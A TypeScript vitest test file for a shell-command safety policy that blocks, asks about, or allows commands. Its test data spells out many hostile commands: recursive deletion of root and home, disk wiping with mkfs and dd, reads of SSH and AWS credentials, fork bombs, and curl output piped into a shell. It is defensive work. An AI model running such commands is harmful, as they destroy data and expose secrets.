import { describe, expect, it } from 'vitest'
import type { CommandAnalysis } from './command-analysis'
import { command, decide, line, word } from './command-rules-test-support'
import { globMatches } from './command-rules-glob'

// The rules on hand-built analyses: what each family reads, independent of the parser. The
// corpus (test/security/policy-corpus.test.ts) runs real command lines through the real analyzer.

describe('decideCommandLine: denylist families', () => {
  it.each([
    [['rm', '-rf', '/'], 'deny.rm_root'],
    [['/bin/rm', '-r', '-f', '//'], 'deny.rm_root'],
    [['rm', '--recursive', '$HOME/'], 'deny.rm_root'],
    [['rm', '-fR', '${HOME}'], 'deny.rm_root'],
    [['rm', '-rf', '~/*'], 'deny.rm_root'],
    [['rm', '-rf', '/usr'], 'deny.rm_root'],
    [['rm', '-rf', '--no-preserve-root', 'x'], 'deny.rm_root'],
    [['find', '/', '-name', 'x', '-delete'], 'deny.rm_root'],
    [['mkfs.ext4', '/dev/sdb1'], 'deny.mkfs'],
    [['dd', 'if=/dev/zero', 'of=/dev/nvme0n1'], 'deny.raw_device'],
    [['shutdown', '-h', 'now'], 'deny.power'],
    [['systemctl', '--no-block', 'reboot'], 'deny.power'],
    [['init', '0'], 'deny.power'],
    [['chmod', '-R', '777', '/'], 'deny.recursive_permissions_root'],
    [['chown', '-R', 'a:b', '/*'], 'deny.recursive_permissions_root'],
    [['kill', '-9', '-1'], 'deny.kill_all'],
    [['kill', '-s', 'KILL', '--', '-1'], 'deny.kill_all'],
    [['cat', '~/.ssh/id_rsa'], 'deny.credential_read'],
    [['cat', '/home/alice/.aws/credentials'], 'deny.credential_read'],
    [['cat', '$HOME/.s?h/id_rsa'], 'deny.credential_read'],
    [['cat', '~/.docker/config.json'], 'deny.credential_read'],
    [['tool', '--key=/root/.netrc'], 'deny.credential_read'],
    [['su', '-'], 'deny.privilege']
  ])('%j → %s', (argv, rule) => {
    expect(decide(line(command(argv)))).toMatchObject({ decision: 'blocked', rule })
  })

  it('does not mistake near misses for the root', () => {
    for (const argv of [
      ['rm', '-rf', 'scratch/tmp'],
      ['rm', '/'],
      ['rm', '-rf', './*'],
      ['kill', '-1'],
      ['chmod', '-R', '755', 'src'],
      ['cat', '~/.docker/daemon.json'],
      ['ls', '~']
    ]) {
      expect(decide(line(command(argv))).rule ?? '', argv.join(' ')).not.toMatch(/^deny\./)
    }
  })

  it('sees a privilege wrapper and a root rm behind wrappers', () => {
    expect(decide(line(command(['ls'], { wrappers: [{ argv: ['sudo', '-u', 'bob'] }] })))).toMatchObject({ decision: 'blocked', rule: 'deny.privilege' })
    expect(decide(line(command(['rm', '-rf', '{}'], { wrappers: [{ argv: ['find', '/', '-exec'] }] })))).toMatchObject({ rule: 'deny.rm_root' })
  })

  it('finds fork bombs by a function starting itself concurrently', () => {
    const inner = { inFunction: ':', concurrent: true }
    expect(decide(line(command([':'], inner), command([':'], inner), command([':'])))).toMatchObject({ decision: 'blocked', rule: 'deny.fork_bomb' })
    expect(decide(line(command(['f'], { inFunction: 'f' }), command(['f']))).decision).toBe('run')
  })

  it('follows downloaded data into a shell, through other commands and through files', () => {
    const curl = command(['curl', '-fsSL', 'https://x.example/i.sh'])
    expect(decide(line(curl, command(['sh'], { fedBy: [{ from: 0, how: 'script' }] })))).toMatchObject({ rule: 'deny.download_execute' })
    expect(decide(line(curl, command(['bash'], { fedBy: [{ from: 0, how: 'stdin' }] })))).toMatchObject({ rule: 'deny.download_execute' })
    expect(
      decide(line(curl, command(['base64', '-d'], { fedBy: [{ from: 0, how: 'stdin' }] }), command(['python3'], { fedBy: [{ from: 1, how: 'stdin' }] })))
    ).toMatchObject({ rule: 'deny.download_execute' })
    expect(decide(line(command(['curl', '-o', 'x.sh', 'https://x']), command(['sh', './x.sh'])))).toMatchObject({ rule: 'deny.download_execute' })
    const fetcher = command(['python3', '-c', 'import urllib.request as u; print(u.urlopen("http://x").read())'])
    expect(decide(line(fetcher, command(['sh'], { fedBy: [{ from: 0, how: 'stdin' }] })))).toMatchObject({ rule: 'deny.download_execute' })
    expect(decide(line(curl, command(['jq', '.'], { fedBy: [{ from: 0, how: 'stdin' }] }))).decision).toBe('run')
    expect(decide(line(curl, command(['python3', '-m', 'json.tool'], { fedBy: [{ from: 0, how: 'stdin' }] }))).decision).toBe('run')
  })

  it('matches globs the way bash does, in linear time on hostile patterns', () => {
    expect([
      globMatches('.s?h', '.ssh'),
      globMatches('.*', '.aws'),
      globMatches('.[a-s]sh', '.ssh'),
      globMatches('sd*', 'sda'),
      globMatches('*', '.ssh'),
      globMatches('[!.]*', '.ssh')
    ]).toEqual([true, true, true, true, false, false])
    expect(globMatches(`.${'*a'.repeat(5000)}b`, '.bash_history')).toBe(false)
    expect(decide(line(command(['cat', `~/.${'*'.repeat(20000)}x`]))).decision).toBe('run')
  })

  it('reads a dynamic command name holding separators as the shell would split it', () => {
    expect(decide(line(command(['rm${IFS}-rf${IFS}/'])))).toMatchObject({ rule: 'deny.rm_root' })
  })
})

describe('decideCommandLine: profile lists, risk flags and ask modes', () => {
  it('applies the denylist by word prefix, the program by basename, wrappers included', () => {
    const input = { denylist: ['git push', ' npm  publish '] }
    expect(decide(line(command(['/usr/bin/git', 'push', 'origin'])), input)).toMatchObject({ decision: 'blocked', rule: 'denylist.custom' })
    expect(decide(line(command(['npm', 'publish'])), input).reason).toContain('"npm  publish"')
    expect(decide(line(command(['git', 'pull'])), input).decision).toBe('run')
    expect(decide(line(command(['ls'], { wrappers: [{ argv: ['nice', '-n', '5'] }] })), { denylist: ['nice'] }).rule).toBe('denylist.custom')
    expect(decide(line(command(['git push'])), input).rule).toBe('denylist.custom')
    expect(decide(line(command(['npm', 'publish'])), { denylist: ['  ', 'npm publish'] }).reason).toContain('"npm publish"')
  })

  it('admits only allowlisted prefixes when an allowlist is set', () => {
    const input = { allowlist: ['pytest', 'git status'] }
    expect(decide(line(command(['pytest', '-q'])), input).decision).toBe('run')
    expect(decide(line(command(['git', 'status']), command(['git', 'commit'])), input)).toMatchObject({ decision: 'blocked', rule: 'allowlist.not_listed' })
  })

  it('flags risks and asks with the first flag under on_risk', () => {
    expect(decide(line(command(['pip', 'install', 'requests'])), { network: 'full' })).toMatchObject({
      decision: 'ask',
      rule: 'risk.network',
      riskFlags: ['network', 'package_install']
    })
    expect(decide(line(command(['npm', 'install'])))).toMatchObject({ rule: 'risk.package_install', riskFlags: ['package_install'] })
    expect(decide(line(command(['rm', '-rf', 'scratch/../src'])))).toMatchObject({ rule: 'risk.deletion' })
    expect(decide(line(command(['rm', '-rf', 'tmp'])), { cwd: 'scratch' }).decision).toBe('run')
    expect(decide(line(command(['cd', '..']), command(['rm', '-rf', 'scratch/x'])))).toMatchObject({ rule: 'risk.deletion' })
    expect(decide(line(command(['rm'], { argsFromStdin: true })))).toMatchObject({ rule: 'risk.deletion' })
    expect(decide(line(command(['cp', 'hook', '.git/hooks/pre-commit'])))).toMatchObject({ rule: 'risk.vcs_write' })
    expect(decide(line(command(['echo'], { redirects: [{ op: '>>', target: word('.env.local'), writes: true }] })))).toMatchObject({
      rule: 'risk.config_write'
    })
    expect(decide(line(command(['cp', 'fixtures/package.json', '.'])))).toMatchObject({ rule: 'risk.config_write' })
    expect(decide(line(command(['git', 'config', 'user.email', 'a@b.c'])))).toMatchObject({ rule: 'risk.config_write' })
    expect(decide(line(command(['git', 'config', '--get', 'user.email']))).decision).toBe('run')
    expect(decide(line(command(['make'])), { timeoutSeconds: 301 })).toMatchObject({ rule: 'risk.long_runtime' })
    expect(decide(line(command(['curl', 'https://x'])))).toMatchObject({ decision: 'run', riskFlags: [] })
  })

  it('follows the ask modes', () => {
    const dynamic: CommandAnalysis = { ok: true, commands: [command(['eval', '$CMD'])], concerns: [{ rule: 'command.dynamic', reason: 'eval of $CMD' }] }
    expect(decide(line(command(['ls'])), { ask: 'always' })).toMatchObject({ decision: 'ask', rule: 'ask.always' })
    expect(decide(line(command(['npm', 'i'])), { ask: 'always' })).toMatchObject({ decision: 'ask', rule: 'risk.package_install' })
    expect(decide(dynamic, { ask: 'always' })).toMatchObject({ decision: 'ask', rule: 'command.dynamic' })
    expect(decide(dynamic)).toMatchObject({ decision: 'ask', rule: 'command.dynamic' })
    expect(decide(dynamic, { ask: 'never' })).toMatchObject({ decision: 'blocked', rule: 'command.dynamic' })
    expect(decide(line(command(['npm', 'i'])), { ask: 'never' })).toMatchObject({ decision: 'run', rule: null, riskFlags: ['package_install'] })
    expect(decide(line(command(['rm', '-rf', '/'])), { ask: 'never' })).toMatchObject({ decision: 'blocked', rule: 'deny.rm_root' })
    const failed: CommandAnalysis = { ok: false, rule: 'command.parse_error' as never, reason: 'x' }
    expect(decide({ ok: false, rule: 'command.too_long', reason: 'long' })).toMatchObject({ decision: 'ask', rule: 'command.too_long', commands: [] })
    expect(decide({ ok: false, rule: 'command.nul_byte', reason: 'nul' }, { ask: 'always' }).decision).toBe('blocked')
    expect(decide(failed, { ask: 'never' }).decision).toBe('blocked')
  })

  it('asks instead of examining more word text than its budget', () => {
    const huge = line(...Array.from({ length: 200 }, () => command([`$(${'x'.repeat(1500)})`])))
    expect(decide(huge)).toMatchObject({ decision: 'ask', rule: 'command.too_complex' })
    expect(decide(huge, { ask: 'never' }).decision).toBe('blocked')
  })

  it('lists the effective argv of every command', () => {
    expect(decide(line(command(['ls', '-la']), command(['wc', '-l']))).commands).toEqual([
      ['ls', '-la'],
      ['wc', '-l']
    ])
  })
})
